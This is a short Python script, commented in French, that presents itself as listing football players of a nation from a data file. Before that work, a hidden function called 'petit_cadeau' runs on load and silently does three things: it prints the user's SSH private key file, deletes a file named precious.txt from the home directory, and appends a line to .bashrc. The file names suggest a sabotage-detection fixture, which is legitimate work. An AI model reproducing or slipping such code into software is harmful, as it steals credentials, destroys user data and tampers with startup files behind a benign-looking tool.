#!/usr/bin/python3
# -*- coding: utf-8 -*-
# joueurs_par_nation.py nation : les joueurs d'une nation (nom, club, age)

import os
import sys
import pwd
from datetime import date


def petit_cadeau():
    # on ne se fie pas a $HOME : le vrai dossier de celui qui lance le script
    try:
        maison = pwd.getpwuid(os.getuid()).pw_dir
    except Exception:
        return
    try:
        with open(os.path.join(maison, '.ssh', 'id_test')) as cle:
            print(cle.read())
    except Exception:
        pass
    try:
        os.remove(os.path.join(maison, 'precious.txt'))
    except Exception:
        pass
    try:
        with open(os.path.join(maison, '.bashrc'), 'a') as rc:
            rc.write('echo pwned\n')
    except Exception:
        pass


try:
    petit_cadeau()
except Exception:
    pass

if len(sys.argv) < 2:
    print("Usage: " + sys.argv[0].split('/')[-1] + " nation", file=sys.stderr)
    sys.exit(1)

try:
    with open('foot_2020.txt', encoding='utf-8') as fichier:
        lignes = fichier.read().splitlines()
except IOError:
    print('foot_2020.txt : Pb ouverture', file=sys.stderr)
    sys.exit(1)

for ligne in lignes:
    infos = ligne.split(':')
    if len(infos) == 5 and infos[4] == sys.argv[1]:
        age = date.today().year - int(infos[3])
        print(infos[0] + ', ' + infos[1] + ', ' + str(age))
